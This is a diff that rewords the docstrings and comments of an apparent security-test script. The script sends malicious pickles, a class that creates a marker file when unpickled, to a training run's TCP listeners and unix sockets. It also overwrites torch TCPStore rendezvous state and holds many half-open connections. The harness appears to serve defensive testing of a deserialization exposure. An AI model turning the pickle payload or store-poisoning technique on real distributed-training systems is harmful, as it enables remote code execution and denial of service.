@@ -1,7 +1,7 @@
-"""What a stranger does to the listeners of a run: `attack.py ASKED`, as root, which it gives up before it connects anywhere.
+"""Attack the listeners of a run as another user: `attack.py ASKED`. Starts as root and drops its rights before it connects.
 
-ASKED is JSON: `tcp` and `last`, lists of [ADDRESS, PORT], where those of `last` are attacked when all others are done; `unix`, a list
-of paths; `marker`, which no stranger can make, and the pickles that are sent make where they are loaded. Prints what came of it.
+ASKED is JSON. `tcp` and `last` are lists of [ADDRESS, PORT]; those of `last` are attacked after all others. `unix` is a list of
+paths. `marker` is a path that the attacker cannot make. The pickles that it sends make it if they are loaded. Prints the results.
 """
 
 from __future__ import annotations
@@ -29,7 +29,7 @@ _HTTP2 = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 
 
 class Evil:
-    """Makes the marker where it is unpickled."""
+    """Make the marker when it is unpickled."""
 
     def __init__(self, marker: str) -> None:
         self._marker = marker
@@ -39,7 +39,7 @@ class Evil:
 
 
 def words(pickled: bytes) -> list[bytes]:
-    """What is sent, each over a connection of its own."""
+    """Return the messages to send, each over a connection of its own."""
     draw = random.Random(0)
     http = b"PUT /scope/key HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(pickled)
     sizes = [len(pickled).to_bytes(8, order) for order in ("little", "big")]
@@ -62,7 +62,7 @@ HALVES = [
 
 
 class Stranger:
-    """One listener's stranger."""
+    """Attack one listener."""
 
     def __init__(self, address: tuple[str, int], pickled: bytes) -> None:
         self._address, self._pickled = address, pickled
@@ -71,12 +71,12 @@ class Stranger:
         self._open: list[socket.socket] = []
 
     def attack(self) -> None:
-        """One thing after the other; what is half said stays open until all is done."""
+        """Send one message after the other. Incomplete messages stay open until the end of the attack."""
         self._use_store()
         for word in words(self._pickled):
             self._say(word)
         for half in [b"", *HALVES, *[b""] * MANY]:
-            if self._num_missed < 3:  # else it takes no more
+            if self._num_missed < 3:  # otherwise it accepts no more connections
                 self._say(half, stays=True)
         for each in self._open:
             each.close()
@@ -88,7 +88,7 @@ class Stranger:
             self._num_missed += 1
             return
         self.num_connected += 1
-        with contextlib.suppress(OSError):  # it has closed the connection, or reads no more
+        with contextlib.suppress(OSError):  # the listener closed the connection, or does not read any more
             connection.settimeout(0.1)
             connection.sendall(word)
             if not stays:
@@ -99,14 +99,14 @@ class Stranger:
             connection.close()
 
     def _is_store(self) -> bool:
-        """Whether a TCPStore answers. torch's own client waits for minutes where none does."""
+        """Return whether a TCPStore answers. torch's own client would wait for minutes for an answer."""
         with contextlib.suppress(OSError), socket.create_connection(self._address, timeout=2) as connection:
             connection.sendall(b"\0" + struct.pack("=I", _MAGIC) + bytes([_PING]) + struct.pack("=I", NOBODY))
             return connection.recv(4) == struct.pack("=I", NOBODY)
         return False
 
     def _use_store(self) -> None:
-        """torch's rendezvous keeps its state in a store, as a pickle in base64."""
+        """Replace the state that torch's rendezvous keeps in a store as a pickle in base64."""
         if not self._is_store():
             return
         store = TCPStore(*self._address, is_master=False, timeout=datetime.timedelta(seconds=5), wait_for_workers=False)
@@ -118,7 +118,7 @@ class Stranger:
 
 
 def entered(path: str) -> bool:
-    """Whether a unix socket can be connected to."""
+    """Return whether a connection to a unix socket is possible."""
     name = "\0" + path[1:] if path.startswith("@") else path
     with socket.socket(socket.AF_UNIX) as connection:
         try:
